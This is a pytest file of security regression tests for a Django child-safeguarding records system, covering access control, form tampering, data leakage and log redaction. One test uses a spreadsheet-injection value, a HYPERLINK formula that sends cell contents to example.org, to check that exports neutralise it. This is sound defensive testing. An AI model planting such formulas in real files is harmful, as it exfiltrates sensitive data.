"""What others got wrong: one test for each. Each failed in another system before it was asked of this one."""

import io
import logging

import msoffcrypto
import openpyxl
import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse

from safelight.access.models import RoleHolding, User
from safelight.access.roles import Role
from safelight.audit.models import Entry
from safelight.children import actions as children
from safelight.children.models import Child, Concern, Involvement
from safelight.core.errors import Invalid, NotFound, WrongState
from safelight.duties import actions as duties
from safelight.governance import actions as governance
from safelight.governance.models import SubjectAccessRequest
from safelight.plans import actions as plans
from safelight.plans import queries as plan_queries
from safelight.plans.models import Plan
from safelight.ratings import actions as ratings
from tests import printed
from tests.integration.test_every_url import PATTERNS
from tests.integration.url_access import ACCESS
from tests.integration.who_may.addresses import ADDRESS_ARGUMENTS
from tests.integration.who_may.asking import address, ask
from tests.integration.who_may.expected import opens
from tests.integration.who_may.forms import filled_in
from tests.integration.who_may.world import NOW, Relation, World, sign_in, taken_back

pytestmark = [pytest.mark.django_db, pytest.mark.req("SH-04"), pytest.mark.hazard("HZ-14")]

FORMULA = '=HYPERLINK("http://example.org?"&A1)'
WORDS = "Tamsin says Dean waits at the arches"


def test_no_state_moves_on_for_somebody_who_does_not_see_the_record(world: World) -> None:
    """Elsewhere a transition asked for the role and not for the record."""
    manager = world.people[Role.MANAGER]
    theirs = world.children[Relation.OTHER_AGENCY]
    plan = Plan.objects.get(child=theirs.child)
    moves = [
        lambda: plans.submit(by=manager, plan=plan, manager=None, now=NOW),
        lambda: plans.take_back(by=manager, plan=plan, now=NOW),
        lambda: plans.close(by=manager, plan=plan, why="Over.", now=NOW),
        lambda: plans.bring_up_to_date(by=manager, plan=plan, now=NOW),
        lambda: ratings.agree(by=manager, decision=theirs.decision, comment="Yes.", now=NOW),
        lambda: ratings.mark_seen(by=manager, decision=theirs.decision, now=NOW),
        lambda: children.close_concern(by=manager, concern=Concern.objects.get(pk=theirs.concern.pk), reason="No."),
        lambda: children.check_onward_plan(by=manager, child=theirs.child),
        lambda: children.restrict_child(by=manager, child=theirs.child, reason="No.", people=[manager]),
        lambda: governance.agree(by=manager, request=theirs.request, sha256=""),
    ]
    for move in moves:
        with taken_back(), pytest.raises(NotFound):
            move()


def test_nobody_is_given_a_child_whom_the_giver_or_the_receiver_cannot_see(world: World) -> None:
    """Elsewhere a case could be assigned by somebody, or to somebody, who may not open it."""
    manager, practitioner = world.people[Role.MANAGER], world.people[Role.PRACTITIONER]
    theirs, restricted, own = (
        world.children[each].child for each in (Relation.OTHER_AGENCY, Relation.RESTRICTED, Relation.OWN)
    )
    with taken_back(), pytest.raises(NotFound):
        children.nominate_lead_worker(by=manager, child=theirs, user=practitioner)
    with taken_back(), pytest.raises(NotFound):
        children.add_involvement(by=manager, child=theirs, user=manager)
    head = world.children[Relation.RESTRICTED].place.head
    with taken_back(), pytest.raises(Invalid, match="restricted"):
        children.add_involvement(by=head, child=restricted, user=world.a.spare)
    with taken_back(), pytest.raises(NotFound):
        children.add_involvement(by=practitioner, child=own, user=world.b.here.maker)
    key = str(world.children[Relation.OWN].ids["key"])
    with taken_back(), pytest.raises(Invalid, match="take this over now"):
        duties.act(
            by=practitioner, child_id=own.pk, key=key, outcome="passed_on", now=NOW, passed_to=world.a.other_agency.head
        )
    assert not Involvement.objects.filter(child=theirs, user__in=[manager, practitioner]).exists()


@pytest.mark.hazard("HZ-25")
def test_whoever_cannot_take_a_duty_over_is_told_of_in_the_same_words_whatever_the_reason(world: World) -> None:
    """Elsewhere "does not see this record" told a colleague that somebody who works with the child is kept from it."""

    def said(relation: Relation, passed_to: User) -> dict[str, str]:
        record = world.children[relation]
        key = str(record.ids["key"])
        with taken_back(), pytest.raises(Invalid) as refused:
            duties.act(
                by=record.place.maker, child_id=record.child.pk, key=key, outcome="passed_on", now=NOW,
                passed_to=passed_to,
            )  # fmt: skip
        return refused.value.errors

    practitioner = world.people[Role.PRACTITIONER]
    excluded = said(Relation.CONFLICT, practitioner)  # works with the child, and is kept from the record
    assert practitioner.pk in Involvement.objects.filter(
        child=world.children[Relation.CONFLICT].child, until__isnull=True
    ).values_list("user_id", flat=True)
    left = world.a.spare
    with taken_back():
        User.objects.filter(pk=left.pk).update(is_active=False)
        gone = said(Relation.OWN, User.objects.get(pk=left.pk))
    others = [
        said(Relation.RESTRICTED, practitioner),
        said(Relation.OWN, world.a.other_agency.head),
        said(Relation.OWN, world.people[Role.DATA_OFFICER]),
        gone,
    ]
    assert [each == excluded for each in others] == [True] * 4
    words = str(excluded).lower()
    assert not [each for each in ("see", "record", "conflict", "restrict", "add them") if each in words]


def test_nobody_changes_their_own_role_team_or_partnership_whatever_they_post(world: World) -> None:
    """Elsewhere a form took every field it was sent. Every page of one's own is sent them here."""
    practitioner = world.people[Role.PRACTITIONER]
    before = User.objects.values().get(pk=practitioner.pk)
    wanted = {
        "role": "manager", "roles": ["manager", "administrator"], "is_active": "on", "name": practitioner.name,
        "team": str(world.b.here.team.pk), "agency": str(world.b.agency.pk), "line_manager": "",
        "partnership": str(world.b.partnership.pk), "user": str(practitioner.pk), "person_id": str(practitioner.pk),
    }  # fmt: skip
    kept = {"access:sign_out", "access:end_session"}
    own = [name for name in PATTERNS if name.startswith("access:") and ACCESS.get(name) == "signed in"]
    for name in sorted(set(own) - kept - {"access:drop_kept"}):
        answer = ask(world, practitioner, "post", reverse(name), wanted)
        changed = {table for table in answer.changed if table.startswith("access_") and table != "access_count"}
        assert changed <= {"access_user"}, name
        assert "access_roleholding" not in answer.written, name
    assert User.objects.values().get(pk=practitioner.pk) == before
    with pytest.raises(IntegrityError), transaction.atomic():
        RoleHolding.objects.create(
            partnership=practitioner.partnership, user=practitioner, role=Role.MANAGER, given_by=practitioner
        )


def test_a_childs_record_cannot_be_moved_to_another_owner_or_level_by_its_form(world: World) -> None:
    """The form of a record is sent the columns that only actions of their own may change."""
    own = world.children[Relation.OWN].child
    practitioner = world.people[Role.PRACTITIONER]
    fields = {
        "about": str(own.pk), "version": str(own.version), "given_name": "Robin", "family_name": "Denholm",
        "gender": "not_known", "social_care_status": "none", "learning_disability": "no",
        "date_of_birth-day": "20", "date_of_birth-month": "1", "date_of_birth-year": "2009",
        "acting_level": "high", "decided_level": "low", "lead_worker": str(practitioner.pk),
        "team": str(world.a.other_team.team.pk), "agency": str(world.b.agency.pk),
        "partnership": str(world.b.partnership.pk),
    }  # fmt: skip
    columns = ("acting_level", "decided_level", "lead_worker_id", "team_id", "agency_id", "partnership_id")
    before = Child.objects.values(*columns).get(pk=own.pk)
    with taken_back():
        answer = world.clients[practitioner.pk].post(reverse("children:edit", args=[own.pk]), fields)
        assert answer.status_code in (302, 422)
        assert Child.objects.values(*columns).get(pk=own.pk) == before


@pytest.mark.parametrize("name", ["files:download", "files:seal", "files:list", "files:attach", "files:police"])
def test_an_attached_file_follows_the_rule_of_the_record(world: World, name: str) -> None:
    """Elsewhere a file had an address of its own that asked for nothing but its number."""
    file_of = world.children[Relation.OTHER_AGENCY]
    for role in (Role.MANAGER, Role.SAFEGUARDING_LEAD, Role.PRACTITIONER):
        own = world.children[Relation.OWN]
        arguments = dict(ADDRESS_ARGUMENTS[name](file_of))
        for child_id in (file_of.child.pk, own.child.pk):
            if "file_id" not in arguments and child_id == own.child.pk:
                continue
            where = address(name, {**arguments, "child_id": child_id})
            for method in ("get", "post"):
                answer = ask(world, world.people[role], method, where, {"about": str(child_id)})
                assert answer.status in (404, 405) and answer.changed == set(), f"{method} {name} {role.value}"


def test_closing_flagging_and_approving_follow_the_rule_of_the_record(world: World) -> None:
    """Elsewhere the main form was held and the small buttons beside it were not."""
    buttons = (
        "children:concern_close", "children:concern_send", "children:concern_link", "children:warning",
        "children:warnings", "children:halts", "children:transition_check", "children:glass_review",
        "ratings:answer", "ratings:seen", "plans:review", "plans:close", "assessments:withdraw",
        "assessments:abandon", "governance:review", "governance:answer_correction", "children:person_end",
        "children:strength_end", "children:worker_end", "children:hours_remove",
    )  # fmt: skip
    for relation in (Relation.OTHER_AGENCY, Relation.OTHER_PARTNERSHIP, Relation.RESTRICTED, Relation.CONFLICT):
        record = world.children[relation]
        for name in buttons:
            where = address(name, ADDRESS_ARGUMENTS[name](record))
            answer = ask(world, world.people[Role.MANAGER], "post", where, filled_in(world, name, record))
            assert (answer.status, answer.changed) == (404, set()), f"{name}, {relation.value}"


def test_nothing_of_another_partnership_is_changed_by_its_address(world: World) -> None:
    """Every form about a child of partnership B, sent by a manager, a coordinator and an administrator of A."""
    record = world.children[Relation.OTHER_PARTNERSHIP]
    for name in sorted(ADDRESS_ARGUMENTS):
        where = address(name, ADDRESS_ARGUMENTS[name](record))
        for role in (Role.MANAGER, Role.COORDINATOR, Role.ADMINISTRATOR):
            answer = ask(world, world.people[role], "post", where, filled_in(world, name, record))
            assert answer.status in (404, 405) and answer.changed == set(), f"{name} as {role.value}"


def test_no_page_about_a_child_shows_the_email_address_of_a_colleague(world: World) -> None:
    """Between agencies a colleague is a name, a job and an agency. Elsewhere the address slipped into lists."""
    addresses = {email.encode() for email in User.objects.values_list("email", flat=True)}
    for role in (Role.MANAGER, Role.COORDINATOR, Role.PRACTITIONER):
        for relation in (Relation.NAMED,):
            record = world.children[relation]
            for name in sorted(ADDRESS_ARGUMENTS):
                if name.startswith("outputs:") and name != "outputs:documents":
                    continue
                if not opens(ACCESS[name], role, relation):
                    continue
                answer = ask(world, world.people[role], "get", address(name, ADDRESS_ARGUMENTS[name](record)))
                assert not [each for each in addresses if each in answer.body], f"{name} as {role.value}"


@pytest.mark.parametrize("name", ["overview:my_work", "children:list", "children:concerns", "children:search"])
def test_no_list_shows_the_email_address_of_a_colleague(world: World, name: str) -> None:
    addresses = {email.encode() for email in User.objects.values_list("email", flat=True)}
    for role in (Role.MANAGER, Role.COORDINATOR, Role.SAFEGUARDING_LEAD):
        answer = ask(world, world.people[role], "get", reverse(name))
        assert answer.status == 200 and not [each for each in addresses if each in answer.body]


def test_a_draft_plan_is_marked_as_not_agreed_on_paper(world: World) -> None:
    """Elsewhere a draft went out by accident: what is printed before it is agreed says so on its pages."""
    record = world.children[Relation.OWN]
    assert plan_queries.current(record.child).state == "draft"
    client = world.clients[world.people[Role.PRACTITIONER].pk]
    for extension in ("docx", "pdf"):
        with taken_back():
            answer = client.get(reverse("outputs:plan", args=[record.child.pk, extension]))
        words = printed.ink((printed.word_words if extension == "docx" else printed.pdf_words)(answer.content))
        assert printed.ink("Draft") in words


def test_an_answer_that_nobody_agreed_is_never_sent(world: World) -> None:
    """What is held about a child leaves only after a second person has agreed these very words."""
    record = world.children[Relation.OWN]
    request = SubjectAccessRequest.objects.get(pk=record.request.pk)
    assert request.state == "in_review"
    with taken_back(), pytest.raises(WrongState):
        governance.send(by=world.a.second_officer, request=request, how="By hand.")


@pytest.mark.req("BE-13")
def test_a_name_that_is_a_formula_is_words_in_what_is_exported(world: World) -> None:
    """Whoever looked at a record stands in its list of viewers, whatever they are called."""
    record = world.children[Relation.OWN]
    practitioner, manager = world.people[Role.PRACTITIONER], world.people[Role.MANAGER]
    with taken_back():
        User.objects.filter(pk=practitioner.pk).update(name=FORMULA, job_title="@SUM(A1)")
        sign_in(practitioner).get(reverse("children:details", args=[record.child.pk]))
        fields = filled_in(world, "oversight:viewers_file", record)
        answer = world.browser(manager).post(reverse("oversight:viewers_file", args=[record.child.pk]), fields)
        assert answer.status_code == 200
    locked = msoffcrypto.OfficeFile(io.BytesIO(answer.content))
    locked.load_key(password=fields["passphrase"])
    locked.decrypt(plain := io.BytesIO())
    rows = openpyxl.load_workbook(plain).active.iter_rows(values_only=True)
    cells = [str(cell) for row in rows for cell in row if cell is not None]
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]


def test_neither_an_error_page_nor_the_servers_log_holds_words_about_a_child(
    world: World, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A form about a child breaks the server, and another asks for what does not exist: ids and kinds stay, no words.

    The error itself holds the words, as those of a database do that quote the row they refuse.
    """
    record = world.children[Relation.OWN]
    client = world.clients[world.people[Role.PRACTITIONER].pk]

    def breaks(**given: object) -> None:
        raise RuntimeError(f"Failing row contains ({WORDS}, {record.child.given_name}).")

    monkeypatch.setattr(children, "record_voice", breaks)
    fields = {"about": str(record.child.pk), "whose": "child", "words": WORDS}
    with taken_back():
        broken = client.post(reverse("children:voice", args=[record.child.pk]), fields)
    with taken_back():
        absent = client.post(reverse("children:voice", args=[record.ids["person_id"]]), fields)
    assert (broken.status_code, absent.status_code) == (500, 404)
    handler = next(each for each in logging.getLogger().handlers if type(each) is logging.StreamHandler)
    logged = "\n".join(handler.format(each) for each in caplog.records)
    assert "Internal Server Error" in logged and "RuntimeError" in logged
    for words in (WORDS, record.child.given_name):
        for text in (broken.content.decode(), absent.content.decode(), logged):
            assert words not in text


def test_what_was_typed_into_a_search_stands_in_no_entry_of_the_log(world: World) -> None:
    with taken_back():
        client = world.clients[world.people[Role.PRACTITIONER].pk]
        answer = client.post(reverse("children:search"), {"name": "Tamsin Vogler"})
        assert answer.status_code == 200
        entry = Entry.objects.filter(partnership_id=world.a.partnership.pk).order_by("-sequence").first()
        assert entry is not None and entry.kind == "search"
        assert "Tamsin" not in str(vars(entry))
